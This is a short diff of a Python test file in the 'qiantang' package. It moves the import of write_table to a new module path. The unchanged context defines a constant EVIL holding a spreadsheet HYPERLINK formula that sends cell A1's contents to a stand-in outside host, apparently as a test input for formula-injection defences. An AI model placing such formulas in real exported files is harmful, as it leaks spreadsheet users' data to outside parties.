@@ -11,9 +11,9 @@ import pytest
 import xarray as xr
 
 from qiantang.charts.tables import write_data
+from qiantang.files.tablefile import write_table
 from qiantang.results import write_results
 from qiantang.skill.saved import csv_text
-from qiantang.tablefile import write_table
 
 EVIL = '=HYPERLINK("https://x.example/"&A1,"y")'
 
